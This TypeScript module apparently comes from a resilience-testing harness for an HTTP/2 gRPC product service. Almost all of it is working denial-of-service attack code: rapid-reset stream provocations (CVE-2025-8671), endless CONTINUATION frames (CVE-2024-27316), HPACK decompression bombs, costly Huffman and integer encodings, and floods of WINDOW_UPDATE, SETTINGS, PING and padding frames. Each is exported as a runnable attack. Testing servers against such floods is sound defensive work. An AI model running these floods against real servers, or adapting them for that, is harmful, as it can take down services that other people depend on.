import { type Attack, type AttackOptions, type AttackReport, type AttackTarget, pause, scaled } from "../attack.ts";
import { requestFields, unaryDialects } from "../wire/call.ts";
import {
  data,
  endStream,
  type Field,
  frame,
  frameType,
  headerBlock,
  headers,
  literal,
  ping,
  prefixed,
  reset,
  settings,
  windowUpdate,
} from "../wire/http2-frames.ts";
import { RawHttp2 } from "../wire/raw-http2.ts";

const [grpc, json] = [unaryDialects[0], unaryDialects[8]] as const;
const getProduct = { path: "/product.v1.ProductService/GetProduct" };
const listProducts = { path: "/product.v1.ProductService/ListProducts" };

function fields(
  options: { readonly path: string; readonly more?: readonly Field[] },
  dialect = json,
): readonly Field[] {
  if (dialect === undefined) throw new Error("no such dialect");
  return requestFields(dialect, options);
}

/** Sends pieces until this many bytes are sent, the server closes the connection, or the time has passed. */
async function flood(
  connection: RawHttp2,
  piece: (index: number) => Buffer,
  { bytes, signal }: { readonly bytes: number; readonly signal: AbortSignal },
): Promise<number> {
  let sent = 0;
  for (let index = 0; sent < bytes && !signal.aborted && !connection.closed; index++) {
    const next = piece(index);
    await connection.send(next, 3_000);
    sent += next.length;
  }
  await connection.roundTrip(10_000);
  return sent;
}

function report(connection: RawHttp2, sent: number, findings: readonly string[] = []): AttackReport {
  const code = connection.goaway();
  connection.close();
  const end = code === undefined ? (connection.closed ? "closed" : "no GOAWAY") : `GOAWAY ${code}`;
  return { findings, note: `${Math.round(sent / 1024)} KiB, ${end}` };
}

/**
 * Frames that make the server reset a stream, so that the client need not (CVE-2025-8671). Each targets a stream whose call has
 * started.
 */
const provocations: Readonly<Record<string, (stream: number) => Buffer>> = {
  "window-update-0": (stream) => Buffer.concat([begun(stream), windowUpdate(stream, 0)]),
  "window-overflow": (stream) => Buffer.concat([begun(stream), windowUpdate(stream, 0x7fffffff)]),
  "data-when-half-closed": (stream) => Buffer.concat([begun(stream), data(stream, "x")]),
  "headers-when-half-closed": (stream) => Buffer.concat([begun(stream), headers(stream, fields(getProduct), true)]),
  "content-length-too-small": (stream) =>
    Buffer.concat([
      headers(stream, fields({ ...getProduct, more: [["content-length", "1"]] })),
      data(stream, '{"productId":"1"}'),
    ]),
  "content-length-too-large": (stream) =>
    Buffer.concat([
      headers(stream, fields({ ...getProduct, more: [["content-length", "9999"]] })),
      data(stream, '{"productId":"1"}'),
    ]),
  "priority-on-itself": (stream) => {
    const payload = Buffer.alloc(5);
    payload.writeUInt32BE(stream);
    return Buffer.concat([begun(stream), frame({ type: frameType.priority, stream }, payload)]);
  },
  "priority-of-4-bytes": (stream) =>
    Buffer.concat([begun(stream), frame({ type: frameType.priority, stream }, Buffer.alloc(4))]),
  "trailers-without-end": (stream) =>
    Buffer.concat([headers(stream, fields(getProduct)), headers(stream, [["x", "y"]]), data(stream, "{}")]),
  "uppercase-name": (stream) => headers(stream, [...fields(getProduct), ["X-Upper", "1"]], true),
  "own-reset": (stream) => Buffer.concat([begun(stream), reset(stream)]),
  "too-large-headers": (stream) => headers(stream, fields({ ...getProduct, more: [["x-pad", "a".repeat(16_300)]] })),
};

/** A cheap call: the attack targets the accounting of resets. */
function begun(stream: number): Buffer {
  return Buffer.concat([headers(stream, fields(listProducts)), data(stream, '{"pageSize":1}')]);
}

/** A call with a response of 40 KB, which is blocked by flow control once others have used up the connection's window. */
function waiting(stream: number): Buffer {
  return Buffer.concat([headers(stream, fields(listProducts)), data(stream, '{"pageSize":20}')]);
}

/** The server must close a connection before this many reset calls. */
const resetsMax = 20_000;

async function provoke(
  make: (stream: number) => Buffer,
  { urls }: AttackTarget,
  { signal, scale }: AttackOptions,
): Promise<AttackReport> {
  const count = scaled(45_000, scale, 4_000);
  const connection = new RawHttp2(urls.product);
  await connection.roundTrip(5_000);
  let streams = 0;
  while (streams < count && !signal.aborted && !connection.closed) {
    const batch: Buffer[] = [];
    for (let index = 0; index < 50; index++) batch.push(make(1 + 2 * streams++));
    await connection.send(Buffer.concat(batch), 3_000);
    // Yields, so that the server's response can end the loop.
    await pause(0, signal);
  }
  await connection.roundTrip(10_000);
  const endless = streams >= resetsMax && !connection.closed && connection.goaway() === undefined;
  return report(connection, streams * 100, endless ? [`${streams} resets provoked, and no GOAWAY`] : []);
}

/** Opens calls with long responses that stay blocked by flow control. */
async function waitingStreams(url: string, count: number, signal: AbortSignal): Promise<RawHttp2> {
  const connection = new RawHttp2(url);
  await connection.roundTrip(5_000);
  for (let index = 0; index < count && !signal.aborted; index += 30) {
    const batch = Array.from({ length: Math.min(30, count - index) }, (_, more) => waiting(1 + 2 * (index + more)));
    await connection.send(Buffer.concat(batch));
    // Waits until these calls are processed, so that only the flood is measured.
    await connection.roundTrip(5_000);
  }
  await pause(700, signal);
  return connection;
}

/** WINDOW_UPDATE frames of one byte, on the connection or on its streams, while many streams are blocked. */
async function dribble(
  of: "connection" | "streams",
  { urls }: AttackTarget,
  { signal, scale }: AttackOptions,
): Promise<AttackReport> {
  const count = scaled(990, scale, 990);
  const connection = await waitingStreams(urls.product, count, signal);
  const piece = (index: number) =>
    Buffer.concat(
      Array.from({ length: 1_000 }, (_, each) =>
        windowUpdate(of === "connection" ? 0 : 1 + 2 * ((index * 1_000 + each) % count), 1),
      ),
    );
  return report(connection, await flood(connection, piece, { bytes: scaled(1024 * 1024, scale, 254 * 1024), signal }));
}

/** SETTINGS frames full of INITIAL_WINDOW_SIZE, each of which changes the windows of all streams. */
async function windowChanges(
  perFrame: number,
  { urls }: AttackTarget,
  { signal, scale }: AttackOptions,
): Promise<AttackReport> {
  const connection = await waitingStreams(urls.product, scaled(990, scale, 990), signal);
  const frames = settings(Array.from({ length: perFrame }, (_, index) => [4, 65_535 + (index & 1)] as const));
  const piece = Buffer.concat(Array<Buffer>(Math.ceil(16_384 / frames.length)).fill(frames));
  return report(
    connection,
    await flood(connection, () => piece, { bytes: scaled(1024 * 1024, scale, 256 * 1024), signal }),
  );
}

/** Repeats the same frames on one connection. */
const frameFloods: Readonly<Record<string, (index: number) => Buffer>> = {
  ping: () => Buffer.concat(Array<Buffer>(800).fill(ping())),
  "ping-acknowledgements": () => Buffer.concat(Array<Buffer>(800).fill(ping("abcdefgh", 1))),
  settings: () => Buffer.concat(Array<Buffer>(1_500).fill(settings())),
  "settings-acknowledgements": () =>
    Buffer.concat(Array<Buffer>(1_500).fill(frame({ type: frameType.settings, flags: 1 }))),
  "table-size-settings": () =>
    Buffer.concat(Array.from({ length: 1_000 }, (_, index) => settings([[1, index & 1 ? 0 : 65_536]]))),
  priority: (index) =>
    Buffer.concat(
      Array.from({ length: 1_000 }, (_, each) =>
        frame({ type: frameType.priority, stream: 1 + 2 * (index * 1_000 + each) }, Buffer.alloc(5)),
      ),
    ),
  "unknown-types": () => Buffer.concat(Array<Buffer>(1_500).fill(frame({ type: 0xfa }))),
  "window-updates": () => Buffer.concat(Array<Buffer>(1_200).fill(windowUpdate(0, 1))),
  "resets-of-closed-streams": () => Buffer.concat([begun(1), reset(1), ...Array<Buffer>(1_200).fill(reset(1))]),
  "requests-without-a-body": (index) =>
    Buffer.concat(
      Array.from({ length: 100 }, (_, each) => headers(1 + 2 * (index * 100 + each), fields(getProduct), true)),
    ),
};

async function frames(
  piece: (index: number) => Buffer,
  { urls }: AttackTarget,
  { signal, scale }: AttackOptions,
): Promise<AttackReport> {
  const connection = new RawHttp2(urls.product);
  return report(
    connection,
    await flood(connection, piece, { bytes: scaled(8 * 1024 * 1024, scale, 512 * 1024), signal }),
  );
}

/** Header blocks that cost more to decode than to send, each on a new stream. */
const headerFloods: Readonly<Record<string, () => { readonly first?: Buffer; readonly block: Buffer }>> = {
  "zero-length-names": () => ({
    block: Buffer.concat([headerBlock(fields(getProduct)), Buffer.alloc(15_000, Buffer.from([0, 0, 0]))]),
  }),
  "zero-length-indexed-names": () => ({
    block: Buffer.concat([headerBlock(fields(getProduct)), Buffer.alloc(15_000, Buffer.from([0x40, 0, 0]))]),
  }),
  // One entry that nearly fills the dynamic table, referenced by one byte each time: 16 KB decode to 64 MB.
  "hpack-bomb": () => ({
    first: Buffer.concat([headerBlock(fields(getProduct)), literal("x-bomb", "a".repeat(3_900), 0x40)]),
    block: Buffer.concat([headerBlock(fields(getProduct)), Buffer.alloc(15_500, prefixed(62, 7, 0x80))]),
  }),
  "hpack-small-entries": () => ({
    first: Buffer.concat([headerBlock(fields(getProduct)), literal("a", "b", 0x40)]),
    block: Buffer.concat([headerBlock(fields(getProduct)), Buffer.alloc(15_500, prefixed(62, 7, 0x80))]),
  }),
  "hpack-cookies": () => ({
    first: Buffer.concat([headerBlock(fields(getProduct)), literal("cookie", "a=b", 0x40)]),
    block: Buffer.concat([headerBlock(fields(getProduct)), Buffer.alloc(15_500, prefixed(62, 7, 0x80))]),
  }),
  "hpack-size-updates": () => ({
    block: Buffer.concat([
      Buffer.alloc(15_000, Buffer.concat([prefixed(0, 5, 0x20), prefixed(4_096, 5, 0x20)])),
      headerBlock(fields(getProduct)),
    ]),
  }),
  "hpack-table-churn": () => ({
    block: Buffer.concat([headerBlock(fields(getProduct)), Buffer.alloc(15_000, literal("x", "", 0x40))]),
  }),
  "huffman-of-longest-codes": () => ({
    block: Buffer.concat([
      headerBlock(fields(getProduct)),
      Buffer.from([0, 1, 0x61]),
      prefixed(15_000, 7, 0x80),
      Buffer.alloc(15_000, 0xff),
    ]),
  }),
  "long-integers": () => ({
    block: Buffer.concat([
      headerBlock(fields(getProduct)),
      Buffer.from([0, 0x7f, ...Array<number>(4_000).fill(0x80), 1]),
    ]),
  }),
};

async function headerFlood(
  name: string,
  { urls }: AttackTarget,
  { signal, scale }: AttackOptions,
): Promise<AttackReport> {
  const { first, block } = headerFloods[name]?.() ?? { block: Buffer.alloc(0) };
  const connections = scaled(4, scale, 1);
  const bytes = scaled(30 * 1024 * 1024, scale, 2 * 1024 * 1024) / connections;
  const opened = Array.from({ length: connections }, () => new RawHttp2(urls.product));
  const sent = await Promise.all(
    opened.map(async (connection) => {
      if (first !== undefined) await connection.send(headers(1, first, true));
      const piece = (index: number) => {
        const stream = 3 + 2 * index;
        return headers(stream, block.subarray(0, 16_384), true);
      };
      return flood(connection, piece, { bytes, signal });
    }),
  );
  for (const each of opened.slice(1)) each.close();
  return report(
    opened[0] as RawHttp2,
    sent.reduce((sum, each) => sum + each, 0),
  );
}

/** A header block without END_HEADERS, continued without end (CVE-2024-27316). */
async function continuations(
  size: number,
  { urls }: AttackTarget,
  { signal, scale }: AttackOptions,
): Promise<AttackReport> {
  const connection = new RawHttp2(urls.product);
  await connection.send(
    frame({ type: frameType.headers, flags: endStream, stream: 1 }, headerBlock(fields(getProduct))),
  );
  const content = size === 0 ? Buffer.alloc(0) : Buffer.alloc(size, literal("x-more", "aaaaaaaaaaaaaaaa"));
  const one = frame({ type: frameType.continuation, stream: 1 }, content);
  const piece = Buffer.alloc(Math.ceil(16_384 / one.length) * one.length, one);
  return report(
    connection,
    await flood(connection, () => piece, { bytes: scaled(16 * 1024 * 1024, scale, 1024 * 1024), signal }),
  );
}

/** DATA frames that contain only padding. */
async function padding({ urls }: AttackTarget, { signal, scale }: AttackOptions): Promise<AttackReport> {
  const connection = new RawHttp2(urls.product);
  await connection.send(headers(1, fields(getProduct, grpc)));
  const one = frame(
    { type: frameType.data, flags: 0x8, stream: 1 },
    Buffer.concat([Buffer.from([255]), Buffer.alloc(255)]),
  );
  const piece = Buffer.alloc(one.length * 60, one);
  return report(
    connection,
    await flood(connection, () => piece, { bytes: scaled(4 * 1024 * 1024, scale, 256 * 1024), signal }),
  );
}

const name = (what: string) => `http2-floods/${what}`;

export const http2Floods: readonly Attack[] = [
  ...Object.entries(provocations).map(
    ([what, make]): Attack => ({
      name: name(`provoked-${what}`),
      run: (target, options) => provoke(make, target, options),
    }),
  ),
  { name: name("dribble-connection"), run: (target, options) => dribble("connection", target, options) },
  { name: name("dribble-streams"), run: (target, options) => dribble("streams", target, options) },
  { name: name("window-changes-2730"), run: (target, options) => windowChanges(2_730, target, options) },
  { name: name("window-changes-1"), run: (target, options) => windowChanges(1, target, options) },
  ...Object.entries(frameFloods).map(
    ([what, piece]): Attack => ({ name: name(what), run: (target, options) => frames(piece, target, options) }),
  ),
  ...Object.keys(headerFloods).map(
    (what): Attack => ({ name: name(what), run: (target, options) => headerFlood(what, target, options) }),
  ),
  { name: name("continuations"), run: (target, options) => continuations(16_000, target, options) },
  { name: name("empty-continuations"), run: (target, options) => continuations(0, target, options) },
  { name: name("padding"), run: padding },
];
